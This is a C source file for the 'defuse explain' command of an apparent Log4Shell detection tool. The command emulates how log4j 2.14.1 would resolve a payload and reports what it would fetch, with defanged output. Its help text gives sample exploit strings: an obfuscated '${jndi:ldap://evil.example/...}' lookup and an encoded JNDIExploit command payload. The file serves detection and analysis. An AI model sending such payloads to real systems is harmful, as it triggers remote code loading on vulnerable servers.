/*
 * explain.c -- `defuse explain PAYLOAD`: shows step by step how log4j
 * 2.14.1 would resolve one payload (the decoding layers, each lookup,
 * defaults, escapes, the victim's values left unresolved, the JNDI name)
 * and what it would then fetch.  Uses defuse_scanner_trace() for the steps
 * and the findings of defuse_scan() for the result; all attacker text is
 * defanged for people, and "$" is \u0024 in --json output.
 */
#include "cli.h"

#include <errno.h>
#include <getopt.h>
#include <stdbool.h>
#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

const char cli_help_explain[] =
    "NAME\n"
    "    defuse explain - deobfuscate one payload step by step\n"
    "\n"
    "SYNOPSIS\n"
    "    defuse explain [OPTIONS] PAYLOAD\n"
    "    defuse explain [OPTIONS] -            (payload on standard input)\n"
    "    defuse explain [OPTIONS] --file=FILE\n"
    "\n"
    "DESCRIPTION\n"
    "    Emulates how log4j 2.14.1 would treat PAYLOAD if it were logged:\n"
    "    the transport decodings undone first (percent, \\uXXXX, HTML\n"
    "    entities, Base64, ...), then every lookup it evaluates, every\n"
    "    default value taken, every $$ escape, the victim's own values that\n"
    "    stay unresolved (env:, sys:, hostName, ...), and the JNDI name it\n"
    "    would request. Then what that request would fetch: scheme, host,\n"
    "    port, path, exfiltrated keys, JNDIExploit command, kind and the\n"
    "    obfuscation techniques used. Nothing is ever fetched.\n"
    "    From a file or standard input, one trailing newline is dropped.\n"
    "\n"
    "OPTIONS\n"
    "    --json        One JSON object: payload, steps (depth, action, input,\n"
    "                  output, note) and findings (as `defuse logs --json`).\n"
    "                  The trace is bounded: texts cut to 2048 bytes (with\n"
    "                  input_len/output_len), a repeated step counted in\n"
    "                  \"repeat\", after 1000 steps only jndi, text4shell, cycle,\n"
    "                  limit and result steps kept and the rest counted in\n"
    "                  \"steps_omitted\" per action.\n"
    "    -f, --file=FILE  Read the payload from FILE.\n"
    "    -o, --output=FILE  Write the explanation to FILE instead of stdout.\n"
    "    --no-decode   Do not undo transport encodings.\n"
    "    --exact       Evaluate the input as exactly one log4j message (an\n"
    "                  unclosed ${ does not end a field).\n"
    "    --defanged    PAYLOAD is defuse's defanged form ($\\{, [:]//, [.],\n"
    "                  \\xHH, \\\\): read it back first. Without it, a payload\n"
    "                  that looks defanged is explained as it is, with a note.\n"
    "    --color=WHEN  auto (default), always or never.\n"
    "\n"
    "EXIT STATUS\n"
    "    0 explained (whether or not a lookup would fire), 2 an error.\n"
    "\n"
    "EXAMPLES\n"
    "    defuse explain '${${lower:j}ndi:ldap://evil.example/a}'\n"
    "    defuse explain --json '%24%7Bjndi:ldap://x/Basic/Command/Base64/aWQ=%7D'\n";

/* Most bytes read from --file or stdin (the detector's default input). */
#define EXPLAIN_MAX_INPUT (16u * 1024u * 1024u)

/* The trace is bounded, so that a hostile 1 MB line explains in time and
 * space linear in its length (it made millions of steps, each with the
 * whole message): each step's text is cut to EXPLAIN_MAX_TEXT bytes (the
 * full length is kept), a step equal to the one before only counts as a
 * repeat, and after EXPLAIN_MAX_STEPS steps only the decisive ones (jndi,
 * text4shell, cycle, limit, result: at most EXPLAIN_MAX_KEY more) are kept,
 * the rest counted per action. */
#define EXPLAIN_MAX_TEXT 2048u
#define EXPLAIN_MAX_STEPS 1000u
#define EXPLAIN_MAX_KEY 200u

typedef struct ex_state {
    json_t *steps;    /* array of step objects */
    json_t *findings; /* array of finding objects */
    json_t *omitted;  /* action -> count of steps left out */
    size_t nkey;      /* decisive steps kept past EXPLAIN_MAX_STEPS */
    size_t nomitted;
    int oom;
} ex_state;

/* A JSON string of any bytes: invalid UTF-8 bytes are read as Latin-1. */
static json_t *jbytes(const char *s, size_t n) {
    if (!s)
        return json_null();
    json_t *j = json_stringn(s, n);
    if (j)
        return j;
    char *u = malloc(n * 2 + 1);
    if (!u)
        return NULL;
    size_t o = 0;
    for (size_t i = 0; i < n; i++) {
        unsigned char c = (unsigned char)s[i];
        if (c < 0x80) {
            u[o++] = (char)c;
        } else {
            u[o++] = (char)(0xC0 | (c >> 6));
            u[o++] = (char)(0x80 | (c & 0x3F));
        }
    }
    j = json_stringn(u, o);
    free(u);
    return j;
}

/* Sets key (and key_len when cut) to s[0..n) cut to EXPLAIN_MAX_TEXT. */
static void set_text(json_t *o, const char *key, const char *lenkey, const char *s, size_t n) {
    json_object_set_new(o, key, jbytes(s, s && n > EXPLAIN_MAX_TEXT ? EXPLAIN_MAX_TEXT : n));
    if (s && n > EXPLAIN_MAX_TEXT)
        json_object_set_new(o, lenkey, json_integer((json_int_t)n));
}

/* True if st repeats the step object o (same action, depth and texts). */
static bool same_step(json_t *o, const defuse_step *st) {
    if (!o || json_integer_value(json_object_get(o, "depth")) != (json_int_t)st->depth ||
        strcmp(json_string_value(json_object_get(o, "action")), st->action) != 0)
        return false;
    static const char *const keys[][2] = {{"input", "input_len"}, {"output", "output_len"}};
    const char *txt[] = {st->input, st->output};
    size_t len[] = {st->input_len, st->output_len};
    for (size_t k = 0; k < 2; k++) {
        json_t *v = json_object_get(o, keys[k][0]);
        if (!txt[k] != !json_is_string(v))
            return false;
        if (!txt[k])
            continue;
        json_t *full = json_object_get(o, keys[k][1]);
        size_t have = json_string_length(v);
        size_t n = full ? (size_t)json_integer_value(full) : have;
        size_t cmp = len[k] > EXPLAIN_MAX_TEXT ? EXPLAIN_MAX_TEXT : len[k];
        if (n != len[k] || have != cmp || memcmp(json_string_value(v), txt[k], cmp) != 0)
            return false;
    }
    return true;
}

static void on_step(const defuse_step *st, void *user) {
    ex_state *x = user;
    size_t n = json_array_size(x->steps);
    json_t *last = n ? json_array_get(x->steps, n - 1) : NULL;
    if (same_step(last, st)) {
        json_t *rep = json_object_get(last, "repeat");
        json_object_set_new(last, "repeat", json_integer(rep ? json_integer_value(rep) + 1 : 2));
        return;
    }
    static const char *const key_actions[] = {"jndi", "text4shell", "cycle", "limit", "result", "inert"};
    bool key = false;
    for (size_t k = 0; k < sizeof key_actions / sizeof *key_actions; k++)
        key |= strcmp(st->action, key_actions[k]) == 0;
    if (n >= EXPLAIN_MAX_STEPS && !(key && x->nkey < EXPLAIN_MAX_KEY)) {
        json_t *c = json_object_get(x->omitted, st->action);
        json_object_set_new(x->omitted, st->action, json_integer(c ? json_integer_value(c) + 1 : 1));
        x->nomitted++;
        return;
    }
    if (n >= EXPLAIN_MAX_STEPS)
        x->nkey++;
    json_t *o = json_object();
    if (!o) {
        x->oom = 1;
        return;
    }
    json_object_set_new(o, "depth", json_integer(st->depth));
    json_object_set_new(o, "action", jbytes(st->action, st->action ? strlen(st->action) : 0));
    set_text(o, "input", "input_len", st->input, st->input_len);
    set_text(o, "output", "output_len", st->output, st->output_len);
    json_object_set_new(o, "note", jbytes(st->note, st->note ? strlen(st->note) : 0));
    if (json_array_append_new(x->steps, o))
        x->oom = 1;
}

static int on_finding(const defuse_finding *f, void *user) {
    ex_state *x = user;
    char *txt = defuse_finding_to_json(f, NULL);
    json_t *o = txt ? json_loads(txt, 0, NULL) : NULL;
    free(txt);
    if (!o || json_array_append_new(x->findings, o))
        x->oom = 1;
    return 0;
}

/* ---- human output ---------------------------------------------------------- */

static void put_defanged(const char *s, size_t n) {
    char small[1024];
    size_t need = defuse_defang(s, n, small, sizeof small);
    if (need < sizeof small) {
        fputs(small, stdout);
        return;
    }
    char *big = malloc(need + 1);
    if (!big)
        return;
    defuse_defang(s, n, big, need + 1);
    fputs(big, stdout);
    free(big);
}

static void put_jstr(json_t *v) {
    if (json_is_string(v))
        put_defanged(json_string_value(v), json_string_length(v));
    else if (json_is_integer(v))
        printf("%lld", (long long)json_integer_value(v));
    else
        fputs("-", stdout);
}

static void put_list(json_t *a) {
    size_t i;
    json_t *v;
    if (!json_array_size(a)) {
        fputs("-", stdout);
        return;
    }
    json_array_foreach(a, i, v) {
        if (i)
            fputs(", ", stdout);
        put_jstr(v);
    }
}

/* True if p[0..n) holds defuse's defanged forms and no live "${". */
static bool looks_defanged(const char *p, size_t n) {
    bool mark = false;
    for (size_t i = 0; i + 1 < n; i++) {
        if (p[i] == '$' && p[i + 1] == '{')
            return false;
        if ((p[i] == '$' && p[i + 1] == '\\' && i + 2 < n && p[i + 2] == '{') ||
            (p[i] == '[' && i + 2 < n && (p[i + 1] == ':' || p[i + 1] == '.') && p[i + 2] == ']'))
            mark = true;
    }
    return mark;
}

/* Why an inert finding would not fire, from its techniques. */
static const char *inert_reason(json_t *techniques) {
    size_t i;
    json_t *t;
    json_array_foreach(techniques, i, t) {
        const char *v = json_string_value(t);
        if (v && strcmp(v, "dollar-escape") == 0)
            return "\"$$\" before \"{\" is an escape, and log4j prints the payload as text";
        if (v && strcmp(v, "base64") == 0)
            return "it is inside a base64 lookup, which log4j 2.14.1 does not have (it is left "
                   "as text, never decoded)";
    }
    return "log4j leaves the payload as text";
}

static void print_human(const char *payload, size_t len, const ex_state *x, int colour) {
    const char *b = colour ? "\033[1m" : "", *r = colour ? "\033[0m" : "";
    printf("%spayload%s   ", b, r);
    put_defanged(payload, len);
    printf("\n\n%show log4j resolves it%s\n", b, r);
    size_t i;
    json_t *st;
    if (!json_array_size(x->steps))
        puts("  (no lookup is evaluated: log4j leaves the text as it is)");
    json_array_foreach(x->steps, i, st) {
        json_int_t depth = json_integer_value(json_object_get(st, "depth"));
        if (depth < 0)
            depth = 0;
        if (depth > 20)
            depth = 20;
        printf("  %3zu. %*s%s%-10s%s ", i + 1, (int)depth * 2, "", colour ? "\033[36m" : "",
               json_string_value(json_object_get(st, "action")), r);
        put_jstr(json_object_get(st, "input"));
        json_t *out = json_object_get(st, "output");
        if (json_is_string(out)) {
            fputs("  ->  ", stdout);
            put_jstr(out);
        }
        json_t *note = json_object_get(st, "note");
        if (json_is_string(note)) {
            fputs("   (", stdout);
            put_jstr(note);
            fputs(")", stdout);
        }
        json_t *rep = json_object_get(st, "repeat");
        if (rep)
            printf("   [x%lld]", (long long)json_integer_value(rep));
        json_t *il = json_object_get(st, "input_len"), *ol = json_object_get(st, "output_len");
        if (il || ol)
            printf("   [texts cut to %u bytes of %lld]", EXPLAIN_MAX_TEXT,
                   (long long)json_integer_value(il ? il : ol));
        putchar('\n');
    }
    if (x->nomitted) {
        printf("  ... %zu more steps left out:", x->nomitted);
        const char *k;
        json_t *v;
        json_object_foreach(x->omitted, k, v) printf(" %s %lld", k, (long long)json_integer_value(v));
        putchar('\n');
    }
    printf("\n%swhat it would do%s\n", b, r);
    if (!json_array_size(x->findings)) {
        puts("  nothing: no JNDI or other dangerous lookup would be performed");
        return;
    }
    json_t *f;
    json_array_foreach(x->findings, i, f) {
        if (i)
            putchar('\n');
        static const char *const fields[] = {"kind", "callback", "scheme", "host", "port",
                                             "path", "command"};
        for (size_t k = 0; k < sizeof fields / sizeof fields[0]; k++) {
            printf("  %-11s ", fields[k]);
            if (k == 0 && colour)
                fputs("\033[1;31m", stdout);
            put_jstr(json_object_get(f, fields[k]));
            if (k == 0)
                fputs(r, stdout);
            putchar('\n');
        }
        static const char *const lists[] = {"exfil", "techniques", "layers"};
        for (size_t k = 0; k < sizeof lists / sizeof lists[0]; k++) {
            printf("  %-11s ", lists[k]);
            put_list(json_object_get(f, lists[k]));
            putchar('\n');
        }
        printf("  %-11s ", "decoded");
        put_jstr(json_object_get(f, "decoded"));
        putchar('\n');
        json_t *host = json_object_get(f, "host"), *scheme = json_object_get(f, "scheme");
        const char *kind = json_string_value(json_object_get(f, "kind"));
        bool inert = kind && strcmp(kind, "inert") == 0;
        if (inert)
            printf("  => log4j 2.14.1 would not request anything: %s\n",
                   inert_reason(json_object_get(f, "techniques")));
        if (json_is_string(host) && json_is_string(scheme)) {
            json_t *port = json_object_get(f, "port"), *path = json_object_get(f, "path");
            fputs(inert ? "     (were it live, it would resolve " : "  => log4j would resolve ",
                  stdout);
            put_jstr(host);
            fputs(", connect with ", stdout);
            put_jstr(scheme);
            if (json_is_integer(port))
                printf(" to port %lld", (long long)json_integer_value(port));
            if (json_is_string(path)) {
                fputs(" and request \"", stdout);
                put_jstr(path);
                fputs("\"", stdout);
            }
            fputs(inert ? ")\n" : "\n", stdout);
        }
    }
}

/* ---- input ------------------------------------------------------------------ */

static char *read_all(FILE *in, size_t *len) {
    size_t cap = 4096, n = 0;
    char *buf = malloc(cap);
    while (buf) {
        if (n == cap) {
            if (cap >= EXPLAIN_MAX_INPUT) {
                errno = EFBIG;
                free(buf);
                return NULL;
            }
            char *b = realloc(buf, cap * 2);
            if (!b) {
                free(buf);
                return NULL;
            }
            buf = b, cap *= 2;
        }
        size_t r = fread(buf + n, 1, cap - n, in);
        n += r;
        if (r == 0) {
            if (ferror(in)) {
                free(buf);
                return NULL;
            }
            break;
        }
    }
    if (buf && n > 0 && buf[n - 1] == '\n')
        n--;
    if (buf && n > 0 && buf[n - 1] == '\r')
        n--;
    *len = n;
    return buf;
}

enum { OPT_JSON = 256, OPT_NO_DECODE, OPT_EXACT, OPT_COLOR, OPT_DEFANGED };

static const struct option long_opts[] = {
    {"json", no_argument, NULL, OPT_JSON},
    {"file", required_argument, NULL, 'f'},
    {"output", required_argument, NULL, 'o'},
    {"no-decode", no_argument, NULL, OPT_NO_DECODE},
    {"exact", no_argument, NULL, OPT_EXACT},
    {"defanged", no_argument, NULL, OPT_DEFANGED},
    {"color", required_argument, NULL, OPT_COLOR},
    {"colour", required_argument, NULL, OPT_COLOR},
    {"help", no_argument, NULL, 'h'},
    {NULL, 0, NULL, 0},
};

int cmd_explain(int argc, char **argv) {
    int json = 0, colour = -1, defanged = 0;
    unsigned flags = 0;
    const char *file = NULL, *outpath = NULL;
    optind = 1;
    opterr = 0; /* errors in the "defuse explain: " style (cli_opt_error) */
    int c;
    while ((c = getopt_long(argc, argv, ":f:ho:", long_opts, NULL)) != -1) {
        switch (c) {
        case OPT_JSON: json = 1; break;
        case 'f': file = optarg; break;
        case 'o': outpath = optarg; break;
        case OPT_NO_DECODE: flags |= DEFUSE_SCAN_NO_DECODE; break;
        case OPT_EXACT: flags |= DEFUSE_SCAN_EXACT; break;
        case OPT_DEFANGED: defanged = 1; break;
        case OPT_COLOR:
            if (cli_color("explain", optarg, &colour) < 0)
                return EXIT_ERROR;
            break;
        case 'h': fputs(cli_help_explain, stdout); return EXIT_CLEAN;
        default: return cli_opt_error("explain", c, argv);
        }
    }
    if (cli_output("explain", outpath) < 0)
        return EXIT_ERROR;
    colour = cli_color_auto(colour, 0);
    char *payload = NULL;
    size_t len = 0;
    if (file) {
        FILE *in = fopen(file, "rb");
        if (!in) {
            fprintf(stderr, "defuse explain: %s: %s\n", file, strerror(errno));
            return EXIT_ERROR;
        }
        payload = read_all(in, &len);
        fclose(in);
        if (!payload) {
            fprintf(stderr, "defuse explain: %s: %s\n", file,
                    errno == EFBIG ? "larger than 16 MiB" : strerror(errno));
            return EXIT_ERROR;
        }
    } else if (optind < argc && strcmp(argv[optind], "-") == 0) {
        payload = read_all(stdin, &len);
        if (!payload) {
            fprintf(stderr, "defuse explain: standard input: %s\n",
                    errno == EFBIG ? "larger than 16 MiB" : strerror(errno));
            return EXIT_ERROR;
        }
    } else if (optind < argc) {
        payload = strdup(argv[optind]);
        len = payload ? strlen(payload) : 0;
    } else {
        fprintf(stderr, "usage: defuse explain [--json] PAYLOAD | - | --file=FILE\n");
        return EXIT_ERROR;
    }
    if (optind + 1 < argc) {
        fprintf(stderr, "defuse explain: one payload at a time (quote it)\n");
        free(payload);
        return EXIT_ERROR;
    }
    if (payload && defanged) {
        /* The read-back is never longer than its input. */
        len = defuse_refang(payload, len, payload, len + 1);
    } else if (payload && looks_defanged(payload, len)) {
        fprintf(stderr, "defuse explain: the payload looks defanged (it holds $\\{, [:]// or [.] "
                        "and no ${): explained as it is; --defanged reads it back\n");
    }

    int status = EXIT_ERROR;
    defuse_scanner *sc = NULL;
    ex_state x = {json_array(), json_array(), json_object(), 0, 0, 0};
    json_t *root = NULL;
    char *dump = NULL;
    if (!payload || !x.steps || !x.findings || !x.omitted) {
        fprintf(stderr, "defuse explain: out of memory\n");
        goto out;
    }
    int r = defuse_scanner_new(&sc, NULL);
    if (r < 0) {
        fprintf(stderr, "defuse explain: %s\n", defuse_strerror(r));
        goto out;
    }
    defuse_scanner_trace(sc, on_step, &x);
    r = defuse_scan(sc, payload, len, flags, on_finding, &x);
    if (r < 0 && r != DEFUSE_ESTOPPED) {
        fprintf(stderr, "defuse explain: %s\n", defuse_strerror(r));
        goto out;
    }
    if (x.oom) {
        fprintf(stderr, "defuse explain: out of memory\n");
        goto out;
    }
    if (json) {
        root = json_object();
        if (!root)
            goto out;
        json_object_set_new(root, "payload", jbytes(payload, len));
        json_object_set(root, "steps", x.steps);
        if (x.nomitted)
            json_object_set(root, "steps_omitted", x.omitted);
        json_object_set(root, "findings", x.findings);
        dump = json_dumps(root, JSON_COMPACT);
        if (!dump)
            goto out;
        for (const char *p = dump; *p; p++) {
            if (*p == '$')
                fputs("\\u0024", stdout);
            else
                putchar(*p);
        }
        putchar('\n');
    } else {
        print_human(payload, len, &x, colour);
    }
    status = EXIT_CLEAN; /* an explanation, not a verdict: see --help */
out:
    if (fflush(stdout) != 0) {
        fprintf(stderr, "defuse explain: write error: %s\n", strerror(errno));
        status = EXIT_ERROR;
    }
    free(dump);
    json_decref(root);
    json_decref(x.steps);
    json_decref(x.findings);
    json_decref(x.omitted);
    defuse_scanner_free(sc);
    free(payload);
    return status;
}
